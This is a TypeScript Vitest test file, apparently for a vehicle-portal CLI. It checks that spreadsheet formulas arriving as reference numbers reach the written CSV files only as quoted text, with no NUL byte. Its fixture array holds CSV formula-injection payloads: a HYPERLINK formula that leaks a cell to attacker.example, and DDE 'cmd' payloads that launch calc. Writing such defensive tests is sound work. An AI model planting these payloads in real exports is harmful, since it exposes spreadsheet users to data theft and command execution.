import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, type CliResult } from '../../harness/cli.js';
import { DEMO_CREDENTIALS, startDemoPortal, type DemoPortal } from '../../lib/demo-portal/index.js';
import { tempDir } from '../helpers/fixtures.js';

/**
 * Issue 14 item 8: refs that are spreadsheet formulas reach manifest.csv and the inventory copy
 * as text, never as a live formula, and no control character is written.
 */
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1;"Click me")',
  `+cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd|/C calc',
  '-2+3+cmd|/C calc',
  '\t=2+2',
  'NUL\0BYTE',
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

describe('formula injection in the CSV files a run writes', () => {
  let portal: DemoPortal;
  let dir: ReturnType<typeof tempDir>;
  let result: CliResult;
  let folder: string;
  beforeAll(async () => {
    portal = await startDemoPortal({
      vehicles: 3,
      extraCsvRows: FORMULAS.map((ref) => ({ 'Reference Number': ref, VIN: '' })),
    });
    dir = tempDir();
    result = await runCli(['run', '--portal', portal.url, '--out', dir.path, '--json', '--retry-delay', '50', '--attempts', '1'], {
      PORTAL_USER: DEMO_CREDENTIALS.username,
      PORTAL_PASS: DEMO_CREDENTIALS.password,
    });
    const run = readdirSync(dir.path).find((n) => /^\d{4}-\d\d-\d\d-\d+$/.test(n))!;
    folder = join(dir.path, run);
  }, 90_000);
  afterAll(async () => {
    await portal?.close();
    dir?.cleanup();
  });

  it('the run ends with its report (the three real vehicles done)', () => {
    expect(result.stdout, result.stderr).not.toBe('');
    expect(JSON.parse(result.stdout)).toMatchObject({ succeeded: 3 });
  });

  it.each(['manifest.csv', 'inventory.csv'])('%s: every formula shown as text, no control character', (name) => {
    const bytes = readFileSync(join(folder, name));
    expect(bytes.includes(0)).toBe(false);
    const cells = (parse(bytes, { relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((c) => DANGEROUS_START.test(c))).toEqual([]);
    // Each formula is there, behind a quote: a reader sees what the portal sent (the ref as the run keeps it).
    for (const formula of FORMULAS.slice(0, 5)) {
      expect(cells.some((c) => c === `'${formula}` || c === `'${formula.trim()}`), formula).toBe(true);
    }
    expect(cells).toContain('NULBYTE');
  });
});
